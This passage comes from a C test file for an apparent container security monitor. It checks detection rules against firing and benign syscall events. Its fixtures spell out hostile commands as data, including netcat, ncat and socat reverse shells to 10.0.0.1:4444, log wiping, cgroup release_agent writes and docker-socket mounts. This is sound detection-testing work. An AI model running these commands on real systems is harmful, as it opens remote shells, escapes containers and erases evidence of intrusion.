	FIRE("hardlink_to_sensitive_file", "link", .path = "/etc/pam.conf", .extra = "/tmp/p"),
	QUIET("hardlink_to_sensitive_file", "link", .path = "/etc/passwd", .extra = "/tmp/p"),
	FIRE("read_proc_mem_or_environ", "openat", .path = "/proc/1/environ"),
	FIRE("read_proc_mem_or_environ", "openat", .path = "/proc/4242/mem"),
	QUIET("read_proc_mem_or_environ", "openat", .path = "/proc/self/environ"),
	QUIET("read_proc_mem_or_environ", "openat", .path = "/proc/1/status"),
	FIRE("process_memory_access", "process_vm_readv", .a = { 1 }),
	QUIET("process_memory_access", "process_vm_readv", .a = { 1 }, .host = true),
	FIRE("chmod_setuid", "fchmodat", .path = "/usr/local/bin/x", .a = { 0, 0, 04755 }),
	FIRE("chmod_setuid", "chmod", .path = "/tmp/sh", .a = { 0, 02755 }),
	QUIET("chmod_setuid", "fchmodat", .path = "/usr/local/bin/x", .a = { 0, 0, 0755 }),
	QUIET("chmod_setuid", "mkdir", .path = "/tmp/d", .a = { 0, 04755 }),
	FIRE("delete_logs", "unlink", .path = "/var/log/auth.log"),
	FIRE("delete_logs", "truncate", .path = "/var/log/nginx/access.log"),
	QUIET("delete_logs", "unlink", .path = "/var/log/auth.log.1", .proc = &p_logrotate),
	/* comm logrotate, written to /proc/self/comm: no pass */
	FIRE("delete_logs", "unlink", .path = "/var/log/auth.log.1", .comm = "logrotate",
	     .proc = &p_named_logrotate),
	QUIET("delete_logs", "unlink", .path = "/var/lib/app/x.log"),
	FIRE("truncate_logs_on_open", "openat", .path = "/var/log/syslog", .a = { 0, 0, WR }),
	QUIET("truncate_logs_on_open", "openat", .path = "/var/log/syslog",
	      .a = { 0, 0, O_WRONLY | O_APPEND }),
	QUIET("truncate_logs_on_open", "openat", .path = "/var/log/syslog", .a = { 0, 0, WR },
	      .proc = &p_logrotate),
	FIRE("truncate_logs_on_open", "openat", .path = "/var/log/syslog", .a = { 0, 0, WR },
	     .comm = "logrotate", .proc = &p_named_logrotate),
	FIRE("truncate_logs_on_open", "openat", .path = "/dev/log/app", .a = { 0, 0, WR }),
	QUIET("truncate_named_log_file", "openat", .path = "/dev/log/syslog", .a = { 0, 0, WR }),
	/* : > /tmp/x/syslog (event-generator's ClearLogActivities); appends,
	 * another name, /var/log (the other rule's), logrotate */
	FIRE("truncate_named_log_file", "openat", .path = "/tmp/falco-eg-1/syslog",
	     .a = { -100, 0, WR }),
	FIRE("truncate_named_log_file", "open", .path = "/srv/app/auth.log", .a = { 0, WR }),
	QUIET("truncate_named_log_file", "openat", .path = "/tmp/falco-eg-1/syslog",
	      .a = { -100, 0, O_WRONLY | O_CREAT | O_APPEND }),
	QUIET("truncate_named_log_file", "openat", .path = "/tmp/falco-eg-1/syslog.txt",
	      .a = { -100, 0, WR }),
	QUIET("truncate_named_log_file", "openat", .path = "/var/log/syslog", .a = { -100, 0, WR }),
	QUIET("truncate_named_log_file", "openat", .path = "/srv/syslog", .a = { -100, 0, WR },
	      .proc = &p_logrotate),
	/* truncate -s 0: ftruncate(fd, 0); to another length; another name */
	FIRE("truncate_named_log_file_to_zero", "ftruncate", .path = "/tmp/x/secure",
	     .a = { 3, 0 }),
	FIRE("truncate_named_log_file_to_zero", "truncate", .path = "/tmp/x/kern.log",
	     .a = { 0, 0 }),
	QUIET("truncate_named_log_file_to_zero", "ftruncate", .path = "/tmp/x/secure",
	      .a = { 3, 4096 }),
	QUIET("truncate_named_log_file_to_zero", "ftruncate", .path = "/tmp/x/data.db",
	      .a = { 3, 0 }),
	QUIET("truncate_named_log_file_to_zero", "truncate", .path = "/var/log/kern.log",
	      .a = { 0, 0 }),
	FIRE("device_node_created", "mknodat", .path = "/dev/sda", .a = { [2] = 060660 }),
	FIRE("device_node_created", "mknod", .path = "/dev/zero2", .a = { [1] = 020666 }),
	QUIET("device_node_created", "mknodat", .path = "/dev/sda", .host = true,
	      .a = { [2] = 060660 }),
	QUIET("device_node_created", "mknodat", .path = "/tmp/fifo", .a = { [2] = 010644 }),
	QUIET("device_node_created", "mknod", .path = "/tmp/f", .a = { [1] = 0100644 }),
	/* runc creating /dev/null while it sets the container up */
	QUIET("device_node_created", "mknodat", .path = "/dev/null", .a = { [2] = 020666 },
	      .comm = "runc:[2:INIT]", .init = true),
	/* dd if=/dev/zero of=/dev/sdz: the open of the device (a failed open
	 * keeps the spelled path); of=/tmp/img; reading a disk; /dev/null */
	FIRE("write_to_block_device", "openat", .path = "/dev/sdz", .a = { -100, 0, WR }),
	FIRE("write_to_block_device", "openat", .path = "/dev/nvme0n1",
	     .a = { -100, 0, O_WRONLY }),
	FIRE("write_to_block_device", "openat", .path = "/dev/loop7", .a = { -100, 0, O_RDWR }),
	QUIET("write_to_block_device", "openat", .path = "/tmp/img", .a = { -100, 0, WR }),
	QUIET("write_to_block_device", "openat", .path = "/dev/sdz", .a = { -100, 0, O_RDONLY }),
	QUIET("write_to_block_device", "openat", .path = "/dev/null", .a = { -100, 0, O_WRONLY }),
	QUIET("write_to_block_device", "openat", .path = "/dev/loop-control",
	      .a = { -100, 0, O_RDWR }),
	FIRE("exec_through_dynamic_loader", "execve", .path = "/lib64/ld-linux-x86-64.so.2",
	     .extra = "/lib64/ld-linux-x86-64.so.2 /tmp/x"),
	FIRE("exec_through_dynamic_loader", "execve", .path = "/lib/ld-musl-x86_64.so.1",
	     .extra = "ld /dev/shm/miner --opt"),
	QUIET("exec_through_dynamic_loader", "execve", .path = "/lib64/ld-linux-x86-64.so.2",
	      .extra = "/lib64/ld-linux-x86-64.so.2 --verify /bin/ls"),
	QUIET("exec_through_dynamic_loader", "execve", .path = "/lib64/ld-linux-x86-64.so.2",
	      .extra = "/lib64/ld-linux-x86-64.so.2"),
	QUIET("exec_through_dynamic_loader", "execve", .path = "/usr/bin/ld",
	      .extra = "ld -o x x.o"),
	QUIET("exec_through_dynamic_loader", "execve", .path = "/lib64/ld-linux-x86-64.so.2",
	      .extra = "/lib64/ld-linux-x86-64.so.2 /tmp/x", .host = true),
	FIRE("io_uring_in_container", "io_uring_setup"),
	FIRE("io_uring_in_container", "io_uring_register"),
	FIRE("io_uring_in_container", "io_uring_enter"),
	QUIET("io_uring_in_container", "io_uring_setup", .host = true),
	QUIET("io_uring_in_container", "io_uring_setup", .exe = "/usr/local/bin/node"),
	QUIET("io_uring_in_container", "io_uring_setup", .init = true),
	QUIET("io_uring_in_container", "openat", .path = "/etc/passwd"),
	FIRE("memfd_create", "memfd_create"),
	QUIET("memfd_create", "memfd_create", .host = true),
	FIRE("fileless_exec_proc_fd", "execve", .path = "/proc/self/fd/3", .extra = "x"),
	FIRE("fileless_exec_proc_fd", "execve", .path = "/dev/fd/5", .extra = "x"),
	/* the kernel resolved the fd to its file: path_arg is the spelling */
	FIRE("fileless_exec_proc_fd", "execve", .path = "/bin/busybox", .exe = "/bin/busybox",
	     .path_arg = "/proc/self/fd/3", .extra = "true"),
	QUIET("fileless_exec_proc_fd", "execve", .path = "/usr/sbin/fdisk", .extra = "fdisk -l"),
	FIRE("fileless_exec_memfd", "execve", .path = "/proc/self/fd/4",
	     .exe = "/memfd:payload (deleted)", .extra = "x"),
	FIRE("fileless_exec_memfd", "execve", .path = "/usr/local/bin/tool",
	     .exe = "/memfd:x (deleted)", .extra = "tool"),
	QUIET("fileless_exec_memfd", "execve", .path = "/usr/bin/memfd-tool", .extra = "memfd-tool"),
	FIRE("fileless_execveat_fd", "execveat", .a = { 3, 0, 0, 0, 0x1000 }),
	QUIET("fileless_execveat_fd", "execveat", .path = "/usr/bin/ls", .extra = "ls", .a = { 3 }),
	FIRE("ptrace_attach", "ptrace", .a = { 16, 99 }),
	FIRE("ptrace_attach", "ptrace", .a = { 0x4206, 99 }),
	/* PTRACE_SETREGS (Falco's), PTRACE_SETREGSET (injectors on arm64) */
	FIRE("ptrace_attach", "ptrace", .a = { 13, 99 }),
	FIRE("ptrace_attach", "ptrace", .a = { 0x4205, 99 }),
	QUIET("ptrace_attach", "ptrace", .a = { 0x4204, 99 }),	/* GETREGSET */
	QUIET("ptrace_attach", "ptrace", .a = { 0 }),
	/* ptrace(PTRACE_TRACEME); ptrace(PTRACE_PEEKUSER) */
	FIRE("ptrace_traceme", "ptrace", .a = { 0, 0 }),
	QUIET("ptrace_traceme", "ptrace", .a = { 3, 1 }),
	QUIET("ptrace_traceme", "ptrace", .a = { 16, 99 }),
	QUIET("ptrace_attach", "ptrace", .a = { 3, 1 }),
	FIRE("kernel_module_load", "finit_module", .a = { 3 }),
	FIRE("kernel_module_load", "delete_module"),
	QUIET("kernel_module_load", "finit_module", .host = true),
	FIRE("kexec_load", "kexec_file_load"),
	QUIET("kexec_load", "kexec_file_load", .host = true),
	FIRE("bpf_in_container", "bpf", .a = { 5 }),
	QUIET("bpf_in_container", "bpf", .a = { 5 }, .host = true),
	FIRE("mount_in_container", "mount", .path = "/mnt", .extra = "tmpfs"),
	QUIET("mount_in_container", "mount", .path = "/proc", .extra = "proc",
	      .comm = "runc:[2:INIT]", .init = true),
	/* named runc, but the workload: no pass */
	FIRE("mount_in_container", "mount", .path = "/mnt", .extra = "tmpfs",
	     .comm = "runc:[2:INIT]", .proc = &p_named_runc),
	QUIET("mount_in_container", "umount2", .path = "/mnt"),
	FIRE("sensitive_mount", "mount", .path = "/mnt/sock", .extra = "/var/run/docker.sock"),
	FIRE("sensitive_mount", "mount", .path = "/host", .extra = "/dev/sda1"),
	FIRE("sensitive_mount", "mount", .path = "/host", .extra = "/"),
	FIRE("sensitive_mount", "mount", .path = "/mnt", .extra = "/proc/sys/kernel"),
	QUIET("sensitive_mount", "mount", .path = "/mnt", .extra = "tmpfs"),
	QUIET("sensitive_mount", "mount", .path = "/mnt", .extra = "/srv/data"),
	QUIET("sensitive_mount", "mount", .path = "/sys", .extra = "/sys", .init = true),
	FIRE("mount_on_proc_sys", "mount", .path = "/proc/sys", .extra = "proc"),
	QUIET("mount_on_proc_sys", "mount", .path = "/proc/system-like", .extra = "proc"),
	QUIET("mount_on_proc_sys", "mount", .path = "/proc/sys", .extra = "/proc/sys", .init = true),
	/* echo /x > /tmp/cg/release_agent; cat of it; notify_on_release */
	FIRE("write_cgroup_release_agent", "openat", .path = "/tmp/cg/release_agent",
	     .a = { -100, 0, WR }),
	FIRE("write_cgroup_release_agent", "open", .path = "/sys/fs/cgroup/rdma/release_agent",
	     .a = { 0, O_WRONLY }),
	QUIET("write_cgroup_release_agent", "openat", .path = "/tmp/cg/release_agent",
	      .a = { -100, 0, O_RDONLY }),
	QUIET("write_cgroup_release_agent", "openat", .path = "/tmp/cg/x/notify_on_release",
	      .a = { -100, 0, WR }),
	FIRE("namespace_change", "unshare", .a = { 0x20000 }),
	FIRE("namespace_change", "setns", .a = { 3 }),
	QUIET("namespace_change", "setns", .a = { 3 }, .comm = "runc:[2:INIT]", .init = true),
	FIRE("namespace_change", "setns", .a = { 3 }, .comm = "runc", .proc = &p_named_runc),
	FIRE("root_change", "chroot", .path = "/host"),
	FIRE("root_change", "pivot_root", .path = "/newroot", .extra = "/newroot/old"),
	QUIET("root_change", "pivot_root", .path = "/var/lib/docker/overlay2/x/merged",
	      .extra = "/var/lib/docker/overlay2/x/merged", .comm = "runc:[2:INIT]", .init = true),
	FIRE("root_change", "chroot", .path = "/host", .comm = "runc", .proc = &p_named_runc),
	FIRE("setuid_root", "setuid", .uid = 1000, .a = { 0 }),
	FIRE("setuid_root", "setresgid", .uid = 33, .a = { 0, 0, 0 }),
	QUIET("setuid_root", "setuid", .uid = 0, .a = { 0 }),
	QUIET("setuid_root", "setuid", .uid = 1000, .a = { 1000 }),
	FIRE("setuid_root_effective", "setresuid", .uid = 1000, .a = { -1ULL, 0, -1ULL }),
	QUIET("setuid_root_effective", "setresuid", .uid = 1000, .a = { -1ULL, 1000, -1ULL }),
	FIRE("capset_in_container", "capset"),
	QUIET("capset_in_container", "capset", .comm = "runc:[2:INIT]", .init = true),
	FIRE("capset_in_container", "capset", .comm = "runc:[2:INIT]", .proc = &p_named_runc),
	FIRE("sethostname_in_container", "sethostname"),
	QUIET("sethostname_in_container", "sethostname", .host = true),
	QUIET("sethostname_in_container", "sethostname", .comm = "runc:[2:INIT]", .init = true),
	FIRE("outbound_connect_unexpected_port", "connect", .ip = "203.0.113.5", .port = 6667),
	FIRE("outbound_connect_unexpected_port", "connect", .ip = "2001:db8::1", .port = 22),
	QUIET("outbound_connect_unexpected_port", "connect", .ip = "203.0.113.5", .port = 443),
	QUIET("outbound_connect_unexpected_port", "connect", .ip = "127.0.0.1", .port = 6667),
	QUIET("outbound_connect_unexpected_port", "connect", .ip = "::ffff:127.0.0.1",
	      .port = 6667),
	QUIET("outbound_connect_unexpected_port", "connect", .ip = "203.0.113.5", .port = 3333),
	QUIET("outbound_connect_unexpected_port", "connect", .ip = "203.0.113.5", .port = 6667,
	      .host = true),
	/* ssh -p 443 user@192.0.2.1; port 22; nc to 443; RFC 1918; loopback */
	FIRE("ssh_connect_non_standard_port", "connect", .ip = "192.0.2.1", .port = 443,
	     .proc = &p_ssh),
	FIRE("ssh_connect_non_standard_port", "connect", .ip = "2001:db8::1", .port = 53,
	     .proc = &p_ssh),
	QUIET("ssh_connect_non_standard_port", "connect", .ip = "192.0.2.1", .port = 22,
	      .proc = &p_ssh),
	QUIET("ssh_connect_non_standard_port", "connect", .ip = "192.0.2.1", .port = 443,
	      .proc = &p_nc),
	QUIET("ssh_connect_non_standard_port", "connect", .ip = "10.1.2.3", .port = 443,
	      .proc = &p_ssh),
	QUIET("ssh_connect_non_standard_port", "connect", .ip = "127.0.0.1", .port = 8080,
	      .proc = &p_ssh),
	/* and outbound_connect_unexpected_port is quiet on it: the gap */
	QUIET("outbound_connect_unexpected_port", "connect", .ip = "192.0.2.1", .port = 443,
	      .proc = &p_ssh),
	/* curl https://10.96.0.1 from a pod; kube-dns; port 80; kube-system's
	 * pods; the same address outside Kubernetes (a docker network's) */
	FIRE("contact_k8s_api_server", "connect", .ip = "10.96.0.1", .port = 443, .ctr = &pod),
	FIRE("contact_k8s_api_server", "connect", .ip = "172.20.0.1", .port = 6443, .ctr = &pod),
	QUIET("contact_k8s_api_server", "connect", .ip = "10.96.0.10", .port = 53, .ctr = &pod),
	QUIET("contact_k8s_api_server", "connect", .ip = "10.96.0.1", .port = 80, .ctr = &pod),
	QUIET("contact_k8s_api_server", "connect", .ip = "10.96.0.1", .port = 443,
	      .ctr = &pod_kube_system),
	QUIET("contact_k8s_api_server", "connect", .ip = "172.20.0.1", .port = 443),
	/* arping (AF_PACKET, SOCK_DGRAM); ping (AF_INET, SOCK_RAW); keepalived */
	FIRE("packet_socket_in_container", "socket", .a = { AF_PACKET, SOCK_DGRAM, 0 }),
	FIRE("packet_socket_in_container", "socket", .a = { AF_PACKET, SOCK_RAW, 0x300 },
	     .proc = &p_nc),
	QUIET("packet_socket_in_container", "socket", .a = { AF_INET, SOCK_RAW, 1 }),
	QUIET("packet_socket_in_container", "socket", .a = { AF_PACKET, SOCK_RAW, 0x300 },
	      .proc = &p_keepalived),
	FIRE("crypto_miner_port_connect", "connect", .ip = "198.51.100.7", .port = 3333),
	FIRE("crypto_miner_port_connect", "connect", .ip = "198.51.100.7", .port = 45700),
	QUIET("crypto_miner_port_connect", "connect", .ip = "198.51.100.7", .port = 3334),
	FIRE("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 4444, .proc = &p_nc),
	FIRE("bind_shell_listener", "bind", .ip = "::", .port = 31337, .proc = &p_socat),
	/* netcat on loopback, an ordinary server, a python named nc, an
	 * unknown process, busybox's nc (not told from its httpd) */
	QUIET("bind_shell_listener", "bind", .ip = "127.0.0.1", .port = 4444, .proc = &p_nc),
	QUIET("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 80, .proc = &p_nginx),
	QUIET("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 4444, .comm = "nc",
	      .proc = &p_python_named_nc),
	QUIET("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 4444, .comm = "nc"),
	QUIET("bind_shell_listener", "bind", .ip = "0.0.0.0", .port = 4444, .proc = &p_bb_nc),
	/* bash renamed curl is still bash; curl renamed bash is not */
	FIRE("reverse_shell_connect", "connect", .comm = "curl", .ip = "10.0.0.1", .port = 4444,
	     .proc = &p_bash_named_curl),
	FIRE("reverse_shell_connect", "connect", .ip = "2001:db8::1", .port = 443,
	     .proc = &p_bash),
	QUIET("reverse_shell_connect", "connect", .comm = "bash", .ip = "10.0.0.1", .port = 4444,
	      .proc = &p_curl_named_bash),
	QUIET("reverse_shell_connect", "connect", .ip = "127.0.0.1", .port = 8080,
	      .proc = &p_bash),
	FIRE("netcat_remote_shell", "execve", .path = "/usr/bin/nc",
	     .extra = "nc -e /bin/sh 10.0.0.1 4444"),
	FIRE("netcat_remote_shell", "execve", .path = "/usr/bin/ncat",
	     .extra = "ncat 10.0.0.1 4444 --sh-exec sh"),
	/* busybox's nc: the file executed is busybox */
	FIRE("netcat_remote_shell", "execve", .path = "/usr/bin/nc", .exe = "/bin/busybox",
	     .extra = "nc -e /bin/sh 10.0.0.1 4444", .proc = &p_bb_nc),
	QUIET("netcat_remote_shell", "execve", .path = "/usr/bin/nc", .extra = "nc -z db 5432"),
	FIRE("socat_remote_shell", "execve", .path = "/usr/bin/socat",
	     .extra = "socat TCP:10.0.0.1:4444 EXEC:/bin/bash"),
	QUIET("socat_remote_shell", "execve", .path = "/usr/bin/socat",
	      .extra = "socat TCP-LISTEN:8080 TCP:backend:80"),
};

static struct rule_set *load(const char *const *paths, size_t n, struct rule_errors *errs)
{
	struct rule_set *rs = rules__load(paths, n, errs);

	for (size_t i = 0; !rs && i < errs->n; i++)
		print_error("%s:%d: %s\n", errs->v[i].file, errs->v[i].line, errs->v[i].msg);
	return rs;
}

static int setup_default(void **state)
{
	const char *path = DEFAULT_RULES;
	struct rule_errors errs = { 0 };

	*state = load(&path, 1, &errs);
	rule_errors_free(&errs);
	return *state ? 0 : -1;
}

static int teardown_default(void **state)
{
	rules__free(*state);
	return 0;
}

static const struct rule *find(const struct rule_set *rs, const char *name)
{
	for (size_t i = 0; i < rules__count(rs); i++) {
		if (!strcmp(rule_name(rules__get(rs, i)), name))
			return rules__get(rs, i);
	}
	fail_msg("no rule %s", name);
	return NULL;
}

static void test_default_loads(void **state)
{
	const struct rule_set *rs = *state;

	assert_true(rules__count(rs) >= 25);
	for (size_t i = 0; i < rules__count(rs); i++) {
		const struct rule *r = rules__get(rs, i);

		assert_true(strlen(rule_description(r)) > 0);
		assert_string_equal(rule_file(r), DEFAULT_RULES);
		assert_true(rule_line(r) > 0);
	}
}

static void test_default_cases(void **state)
{
	const struct rule_set *rs = *state;

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct built *b = build(&cases[i].ev);
		bool got = rule_matches(find(rs, cases[i].rule), &b->v);

		free(b);
		if (got != cases[i].fires)
			fail_msg("case %zu: %s %s on %s %s", i, cases[i].rule,
				 got ? "fired" : "did not fire", cases[i].ev.sc,
				 cases[i].ev.path ? cases[i].ev.path : "");
	}
}

/* The per-syscall index changes nothing: every case's event, re-typed as
 * each syscall of the table, matches the same rules through
 * rules__candidate_ids() as through all of them; and it does prune. */
static void candidates_same_alerts(const struct rule_set *rs, size_t *pruned_out,
				   size_t *checked_out)
{
	size_t n, pruned = 0, checked = 0;

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct built *b = build(&cases[i].ev);

		for (size_t k = 0; k < cactus_syscalls_count; k++) {
			const struct cactus_syscall *sc = &cactus_syscalls[k];
			const uint32_t *cand;
			size_t j = 0;

			b->e.syscall_nr = sc->nr;
			event_view_init(&b->v, &b->e, ev_container(&cases[i].ev), 0);
			view_apply(&b->v, &cases[i].ev);
			cand = rules__candidate_ids(rs, sc->nr, &n);
			assert_non_null(cand);
			pruned += rules__count(rs) - n;
			for (size_t r = 0; r < rules__count(rs); r++) {
				bool full = rule_matches(rules__get(rs, r), &b->v);
				bool listed = j < n && cand[j] == r;

				if (listed)
					j++;
				if (full && !listed)
					fail_msg("case %zu as %s: rule %s matches but is not a candidate", i,
						 sc->name, rule_name(rules__get(rs, r)));
				checked++;
			}
			assert_int_equal(j, n); /* in rule order, no strays */
		}
		free(b);
	}
	assert_null(rules__candidate_ids(rs, CACTUS_MAX_SYSCALLS, &n));
	assert_int_equal(n, rules__count(rs));
	assert_null(rules__candidate_ids(rs, __NR_getpid, &n)); /* not classified: all */
	assert_int_equal(n, rules__count(rs));
	*pruned_out = pruned;
	*checked_out = checked;
}

static void test_candidates_same_alerts(void **state)
{
	size_t pruned, checked;

	candidates_same_alerts(*state, &pruned, &checked);
	assert_true(checked > 0);
	/* most rules name their syscalls: most are skipped */
	assert_true(pruned * 2 > checked);
}

/* The same on rules built to exercise category, ne, in and macros, and the
 * exact candidate lists for two syscalls. */
static void test_candidates_conditions(void **state)
{
	const char *path = FIX "index.yaml";
	struct rule_errors errs = { 0 };
	struct rule_set *rs = load(&path, 1, &errs);
	static const char *const want_openat[] = { "by_category", "by_macro",
						   "no_syscall_condition" };
	static const char *const want_connect[] = { "by_category_list", "not_category",
						    "not_syscalls", "syscall_and_category",
						    "no_syscall_condition" };
	const uint32_t *cand;
	size_t pruned, checked, n;

	(void)state;
	assert_non_null(rs);
	candidates_same_alerts(rs, &pruned, &checked);
	assert_true(pruned > 0);
	cand = rules__candidate_ids(rs, cactus_syscall_by_name("openat")->nr, &n);
	assert_int_equal(n, ARRAY_SIZE(want_openat));
	for (size_t i = 0; i < n; i++)
		assert_string_equal(rule_name(rules__get(rs, cand[i])), want_openat[i]);
	cand = rules__candidate_ids(rs, cactus_syscall_by_name("connect")->nr, &n);
	assert_int_equal(n, ARRAY_SIZE(want_connect));
	for (size_t i = 0; i < n; i++)
		assert_string_equal(rule_name(rules__get(rs, cand[i])), want_connect[i]);
	rules__free(rs);
	rule_errors_free(&errs);
}

/* Every default rule has a triggering case and a benign look-alike. */
static void test_default_coverage(void **state)
{
	const struct rule_set *rs = *state;

	for (size_t i = 0; i < rules__count(rs); i++) {
		const char *name = rule_name(rules__get(rs, i));
		int fire = 0, quiet = 0;

		for (size_t j = 0; j < ARRAY_SIZE(cases); j++) {
			if (!strcmp(cases[j].rule, name))
				*(cases[j].fires ? &fire : &quiet) += 1;
		}
		if (!fire || !quiet)
			fail_msg("rule %s: %d firing, %d benign cases", name, fire, quiet);
	}
}

static void test_default_actions(void **state)
{
	const struct rule_set *rs = *state;
	int kill = 0, deny = 0;

	for (size_t i = 0; i < rules__count(rs); i++) {
		enum rule_action a = rule_action(rules__get(rs, i));

		kill += a == ACT_KILL;
		deny += a == ACT_DENY;
	}
	assert_int_equal(kill, 2);
	assert_int_equal(deny, 1);
	assert_int_equal(rule_action(find(rs, "kernel_module_load")), ACT_KILL);
	assert_int_equal(rule_action(find(rs, "bpf_in_container")), ACT_KILL);
	assert_int_equal(rule_action(find(rs, "crypto_miner_port_connect")), ACT_DENY);
	assert_int_equal(rule_priority(find(rs, "bpf_in_container")), PRIO_CRITICAL);
	assert_string_equal(rule_priority_name(PRIO_LOW), "low");
	assert_string_equal(rule_action_name(ACT_DENY), "deny");
}

static int count_syscalls(const struct kernel_spec *ks)
{
	int n = 0;

	for (int i = 0; i < 512; i++)
		n += ks->syscalls[i];
	return n;
}

static void test_default_kernel_specs(void **state)
{
	const struct rule_set *rs = *state;
	struct kernel_spec ks;
	char why[256];

	assert_int_equal(rules__kernel_spec(find(rs, "kernel_module_load"), &ks, why,
					    sizeof(why)), 0);
	assert_int_equal(count_syscalls(&ks), 3);
	assert_true(ks.syscalls[__NR_init_module] && ks.syscalls[__NR_finit_module] &&
		    ks.syscalls[__NR_delete_module]);
	assert_int_equal(ks.n_path + ks.n_exe + ks.n_ports + ks.n_nets + ks.n_containers, 0);

	assert_int_equal(rules__kernel_spec(find(rs, "bpf_in_container"), &ks, why,
					    sizeof(why)), 0);
	assert_int_equal(count_syscalls(&ks), 1);
	assert_true(ks.syscalls[__NR_bpf]);
	assert_int_equal(ks.n_containers, 0);

	assert_int_equal(rules__kernel_spec(find(rs, "crypto_miner_port_connect"), &ks, why,
					    sizeof(why)), 0);
	assert_int_equal(count_syscalls(&ks), 1);
	assert_true(ks.syscalls[__NR_connect]);
	assert_int_equal(ks.n_ports, 6);
	assert_int_equal(ks.ports[0], 3333);
	assert_int_equal(ks.ports[5], 45700);

	/* an alert rule with except blocks is not kernel-expressible */
	assert_int_equal(rules__kernel_spec(find(rs, "read_ssh_keys"), &ks, why, sizeof(why)),
			 -ENOTSUP);
	assert_non_null(strstr(why, "except"));
}

static void test_render(void **state)
{
	const struct rule_set *rs = *state;
	struct ev_spec sp = { .sc = "execve", .path = "/bin/bash", .extra = "bash -i",
		.proc = &p_exec_bash_tty };
	struct ev_spec op = { .sc = "openat", .path = "/etc/cron.d/job",
		.a = { 0, 0, O_WRONLY | O_CREAT }, .proc = &p_cat };
	struct ev_spec jp = { .sc = "execve", .path = "/bin/sh", .extra = "sh -c id",
		.proc = &p_java_sh, AGE(300) };
	struct built *b = build(&sp);
	char buf[256];

	rule_render(find(rs, "terminal_shell_in_container"), &b->v, buf, sizeof(buf));
	assert_string_equal(buf, "terminal shell /usr/bin/bash on pts/0 in web (argv bash -i)");
	rule_render(find(rs, "terminal_shell_in_container"), &b->v, buf, 12);
	assert_string_equal(buf, "terminal sh"); /* truncated, NUL terminated */
	free(b);
	b = build(&op);
	rule_render(find(rs, "write_below_etc"), &b->v, buf, sizeof(buf));
	assert_string_equal(buf,
		"/usr/bin/cat opened /etc/cron.d/job for writing (O_WRONLY|O_CREAT) in web");
	free(b);
	b = build(&jp);
	rule_render(find(rs, "shell_spawned_by_program"), &b->v, buf, sizeof(buf));
	assert_string_equal(buf, "shell /usr/bin/dash started in web by /opt/java/bin/java "
				 "(java, pid 1000; argv sh -c id)");
	free(b);
}

/* Normal container life, as the monitor sees it with the process table:
 * no default rule fires on any of it. */
static const struct ev_spec normal_life[] = {
	/* the runtime's set-up (runc init): device nodes, mounts, pivot_root,
	 * hostname, capabilities, namespaces; comm runc:[2:INIT] */
	{ .sc = "mknodat", .path = "/dev/null", .a = { [2] = 020666 }, .init = true,
	  .comm = "runc:[2:INIT]" },
	{ .sc = "mknodat", .path = "/dev/zero", .a = { [2] = 020666 }, .init = true,
	  .comm = "runc:[2:INIT]" },
	{ .sc = "mount", .path = "/proc", .extra = "proc", .init = true, .comm = "runc:[2:INIT]" },
	{ .sc = "mount", .path = "/sys", .extra = "sysfs", .init = true, .comm = "runc:[2:INIT]" },
	{ .sc = "mount", .path = "/proc/sys", .extra = "/proc/sys", .init = true,
	  .comm = "runc:[2:INIT]" },
	{ .sc = "mount", .path = "/etc/hosts", .extra = "/var/lib/docker/containers/x/hosts",
	  .init = true, .comm = "runc:[2:INIT]" },
	{ .sc = "pivot_root", .path = "/var/lib/docker/overlay2/x/merged",
	  .extra = "/var/lib/docker/overlay2/x/merged", .init = true, .comm = "runc:[2:INIT]" },
	{ .sc = "sethostname", .init = true, .comm = "runc:[2:INIT]" },
	{ .sc = "capset", .init = true, .comm = "runc:[2:INIT]" },
	{ .sc = "setns", .a = { 5, 0x20000 }, .init = true, .comm = "runc:[2:INIT]" },
	{ .sc = "unshare", .a = { 0x20000 }, .init = true, .comm = "runc:[1:CHILD]" },
	{ .sc = "openat", .path = "/etc/hostname", .a = { 0, 0, WR }, .init = true,
	  .comm = "runc:[2:INIT]" },
	/* the entrypoint: a shell script, exec'd by the runtime */
	{ .sc = "execve", .path = "/bin/sh", .extra = "sh /entrypoint.sh", .proc = &p_entry_sh,
	  AGE(0) },
	{ .sc = "openat", .path = "/entrypoint.sh", .proc = &p_entry_sh, AGE(0) },
	/* ... that starts servers on loopback (busybox httpd, python) and an
	 * ordinary server on every address (nginx) */
	{ .sc = "execve", .path = "/bin/httpd", .extra = "httpd -f -p 127.0.0.1:8080",
	  .proc = &p_bb_httpd, AGE(0) },
	{ .sc = "bind", .ip = "127.0.0.1", .port = 8080, .proc = &p_bb_httpd, AGE(0) },
	{ .sc = "listen", .a = { 3, 128 }, .proc = &p_bb_httpd, AGE(0) },
	{ .sc = "accept", .ip = "127.0.0.1", .port = 40312, .proc = &p_bb_httpd, AGE(1) },
	{ .sc = "execve", .path = "/usr/bin/python3",
	  .extra = "python3 -m http.server --bind 127.0.0.1 8000", .proc = &p_python_srv, AGE(0) },
	{ .sc = "bind", .ip = "127.0.0.1", .port = 8000, .proc = &p_python_srv, AGE(0) },
	{ .sc = "listen", .a = { 3, 5 }, .proc = &p_python_srv, AGE(0) },
	{ .sc = "bind", .ip = "0.0.0.0", .port = 80, .proc = &p_nginx, AGE(0) },
	{ .sc = "bind", .ip = "::", .port = 80, .proc = &p_nginx, AGE(0) },
	{ .sc = "listen", .a = { 6, 511 }, .proc = &p_nginx, AGE(0) },
	{ .sc = "openat", .path = "/etc/passwd", .proc = &p_nginx, AGE(0) },
	/* ... and talks to them */
	{ .sc = "execve", .path = "/bin/wget", .extra = "wget -q -O- http://127.0.0.1:8080/",
	  .proc = &p_bb_wget, AGE(2) },
	{ .sc = "connect", .ip = "127.0.0.1", .port = 8080, .proc = &p_bb_wget, AGE(2) },
	{ .sc = "connect", .ip = "::1", .port = 8000, .proc = &p_bb_wget, AGE(2) },
	{ .sc = "execve", .path = "/bin/sh", .extra = "sh /healthcheck.sh", .proc = &p_script_sh,
	  AGE(40) },
	/* docker exec c cat /etc/hostname: the runtime's set-up, then cat */
	{ .sc = "setns", .a = { 5, 0 }, .init = true, .comm = "runc:[2:INIT]" },
	{ .sc = "capset", .init = true, .comm = "runc:[2:INIT]" },
